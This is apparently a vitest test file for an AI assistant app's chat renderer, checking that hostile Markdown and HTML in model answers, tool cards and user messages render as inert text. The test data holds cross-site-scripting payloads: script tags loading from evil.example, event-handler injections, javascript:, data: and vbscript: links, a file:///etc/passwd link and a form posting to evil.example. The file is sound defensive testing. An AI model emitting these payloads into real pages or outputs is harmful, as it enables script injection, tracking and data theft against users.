// Model output is data: hostile Markdown (script, iframes, event handlers, javascript:/data:/
// vbscript: links, remote images, a huge table) renders as inert text and safe links, and what a
// tool card shows (titles, locations, errors) is text even when it holds Markdown or HTML.
import { cleanup, render } from '@testing-library/react';
import fc from 'fast-check';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import type { ChatMessage } from '../../common/contract';
import { AideProvider } from '../../renderer/src/aide-context';
import { Markdown } from '../../renderer/src/chat/markdown';
import { MessageItem } from '../../renderer/src/chat/message-item';
import { modelDoes } from '../support/model-turns';
import { startAide, type RealAide } from '../support/renderer-core';

let casesRun = 0;
afterEach(cleanup);
afterAll(() => console.info(`hostile-markdown: ${casesRun} fuzz cases run`));

/** Elements that run code, load something, or embed another document. */
const ACTIVE =
  'script, iframe, frame, frameset, object, embed, img, video, audio, source, track, picture, svg, math, link, meta, base, form, input, style, template';
const SAFE_HREF = /^(?:https?:|mailto:)/i;

/** Everything that must hold for any rendered answer. */
function expectInert(container: HTMLElement): void {
  expect(container.querySelectorAll(ACTIVE)).toHaveLength(0);
  // The only buttons are our own: Copy code on code blocks (and Undo on cards).
  for (const button of container.querySelectorAll('button'))
    expect(button.className).toMatch(/^(copy-code|tool-card-undo)$/);
  for (const element of container.querySelectorAll('*')) {
    for (const attribute of element.getAttributeNames()) {
      expect(attribute.toLowerCase().startsWith('on'), `${element.tagName} ${attribute}`).toBe(false);
      expect([
        'src',
        'srcset',
        'srcdoc',
        'style',
        'formaction',
        'action',
        'xlink:href',
        'background',
        'poster',
      ]).not.toContain(attribute.toLowerCase());
    }
  }
  for (const link of container.querySelectorAll('[href]')) {
    expect(link.tagName).toBe('A');
    expect(link.getAttribute('href')).toMatch(SAFE_HREF);
    expect(link.getAttribute('rel')).toBe('noreferrer');
  }
}

const hostile = {
  script: '<script>window.pwned = 1</script>\n\n<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  iframe: '<iframe src="https://evil.example"></iframe> <iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  handlers:
    '<img src=x onerror="window.pwned=1"> <div onclick="pwned()">click</div> <svg onload=alert(1)></svg> <a href="#" onmouseover=alert(1)>x</a>',
  links: [
    '[js](javascript:alert(1))',
    '[js upper](JaVaScRiPt:alert(1))',
    '[js entity](&#106;avascript:alert(1))',
    '[js tab](java\tscript:alert(1))',
    '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[vb](vbscript:msgbox(1))',
    '[file](file:///etc/passwd)',
    '[app](aide://quick-ask)',
    '<javascript:alert(1)>',
    '[ref][evil]\n\n[evil]: javascript:alert(1)',
    '[x]( javascript:alert(1) )',
  ].join('\n\n'),
  images:
    '![tracker](https://evil.example/pixel.png?u=me) ![data](data:image/svg+xml,<svg onload=alert(1)>) ![js](javascript:alert(1))',
  styles:
    '<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content="0;url=https://evil.example">',
  forms:
    '<form action=https://evil.example><input name=key><button formaction=javascript:alert(1)>Send</button></form>',
};

describe('hostile Markdown from the model', () => {
  it.each(Object.entries(hostile))('%s: nothing runs, loads or embeds; the text is still shown', (_name, text) => {
    const { container } = render(<Markdown text={text} />);
    expectInert(container);
    expect(container.textContent?.length).toBeGreaterThan(0);
    expect((window as unknown as { pwned?: number }).pwned).toBeUndefined();
  });

  it('shows script and HTML as text', () => {
    const { container } = render(<Markdown text={hostile.script} />);
    expect(container.textContent).toContain('<script>window.pwned = 1</script>');
  });

  it('keeps the text of unsafe links without an href, and web and mail links with one', () => {
    const { container } = render(
      <Markdown text={`${hostile.links}\n\n[web](https://example.com/a) [mail](mailto:a@b.example)`} />,
    );
    const hrefs = [...container.querySelectorAll('a[href]')].map((a) => a.getAttribute('href'));
    expect(hrefs).toEqual(['https://example.com/a', 'mailto:a@b.example']);
    for (const name of ['js', 'js upper', 'js entity', 'data', 'vb', 'file', 'app', 'ref'])
      expect(container.textContent).toContain(name);
  });

  it('turns remote images into links the person may follow, and never requests them', () => {
    const { container } = render(<Markdown text={hostile.images} />);
    expect(container.querySelector('img')).toBeNull();
    const links = [...container.querySelectorAll('a[href]')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://evil.example/pixel.png?u=me']);
    expect(links[0]?.textContent).toBe('tracker');
    // The unsafe ones keep their alt text only.
    expect(container.textContent).toContain('data');
    expect(container.textContent).toContain('js');
  });

  it('renders a 2,000-row table completely', () => {
    const rows = Array.from(
      { length: 2_000 },
      (_, i) => `| ${i} | <img src=x onerror=alert(${i})> | [x](javascript:${i}) |`,
    );
    const text = ['| n | html | link |', '|---|---|---|', ...rows].join('\n');
    const { container } = render(<Markdown text={text} />);
    expect(container.querySelectorAll('tbody tr')).toHaveLength(2_000);
    expectInert(container);
  }, 30_000);

  it('random mixes of hostile fragments stay inert (fast-check)', () => {
    const fragment = fc.oneof(
      fc.constantFrom(
        ...Object.values(hostile),
        '**bold**',
        '```html\n<script>alert(1)</script>\n```',
        '| a |\n|---|\n| <b>x</b> |',
        '> quote',
        '- item',
      ),
      fc.string({ maxLength: 40 }),
      fc
        .tuple(
          fc.string({ maxLength: 10 }),
          fc.constantFrom(
            'javascript:',
            'JAVASCRIPT:',
            'data:',
            'vbscript:',
            'file:',
            ' javascript:',
            'java&#115;cript:',
          ),
          fc.string({ maxLength: 10 }),
        )
        .map(([label, scheme, rest]) => `[${label}](${scheme}${rest})`),
      fc
        .tuple(
          fc.constantFrom('img', 'iframe', 'script', 'svg', 'object', 'embed', 'video', 'a', 'div'),
          fc.constantFrom('onerror', 'onload', 'src', 'href', 'srcdoc', 'style'),
          fc.string({ maxLength: 10 }),
        )
        .map(([tag, attribute, value]) => `<${tag} ${attribute}="${value}">x</${tag}>`),
    );
    fc.assert(
      fc.property(fc.array(fragment, { minLength: 1, maxLength: 6 }), (parts) => {
        casesRun += 1;
        const { container, unmount } = render(<Markdown text={parts.join(' ')} />);
        expectInert(container);
        unmount();
      }),
      { numRuns: 120 },
    );
  }, 30_000);
});

describe('tool results are data', () => {
  it('a card whose title, location and error hold Markdown and HTML shows them as plain text', async () => {
    const app = await startAide();
    const title = '**Dentist** <script>window.pwned=1</script> ![x](https://evil.example/p.png)';
    const location = '[Main St](javascript:alert(1)) <img src=x onerror=alert(1)>';
    const badTime = '<iframe src=https://evil.example></iframe> [retry](javascript:alert(1))';
    const start = Date.now() + 86_400_000;
    // The model creates an appointment with a hostile title and place, and a reminder at a hostile "time".
    await modelDoes(
      app,
      [
        'create_appointment',
        {
          title,
          start: new Date(start).toISOString(),
          end: new Date(start + 3_600_000).toISOString(),
          location,
          notes: null,
          rrule: 'FREQ=DAILY',
          remind_minutes_before: null,
        },
      ],
      ['create_reminder', { title: 'x', due: badTime, rrule: null, notes: null }],
    );
    const message = await storedAnswer(app);
    expect(message.cards?.map((c) => c.action)).toEqual(['created', 'error']);

    const { container } = render(
      <AideProvider api={app.aide}>
        <MessageItem view={{ message, streaming: false, note: null }} />
      </AideProvider>,
    );
    expectInert(container);
    expect(container.querySelector('strong')).toBeNull();
    expect(container.textContent).toContain(title);
    expect(container.textContent).toContain(location);
    expect(container.textContent).toContain(badTime);
    expect((window as unknown as { pwned?: number }).pwned).toBeUndefined();
  });

  it("the user's own message is shown as typed, never as Markdown or HTML", async () => {
    const app = await startAide();
    const text = '<img src=x onerror=alert(1)> **not bold** [x](javascript:alert(1))';
    const { id } = await app.other.createConversation();
    await app.other.sendMessage({ conversationId: id, text });
    const [message] = (await app.other.getConversation({ id }))?.messages ?? [];
    if (!message) throw new Error('the message was not stored');

    const { container } = render(
      <AideProvider api={app.aide}>
        <MessageItem view={{ message, streaming: false, note: null }} />
      </AideProvider>,
    );
    expectInert(container);
    expect(container.querySelector('a')).toBeNull();
    expect(container.textContent).toContain(text);
  });
});

/** The model's last answer, as the core stored it. */
async function storedAnswer(app: RealAide): Promise<ChatMessage> {
  const [conversation] = await app.other.listConversations();
  const answer = (await app.other.getConversation({ id: conversation!.id }))?.messages.at(-1);
  if (answer?.role !== 'assistant') throw new Error('no answer was stored');
  return answer;
}
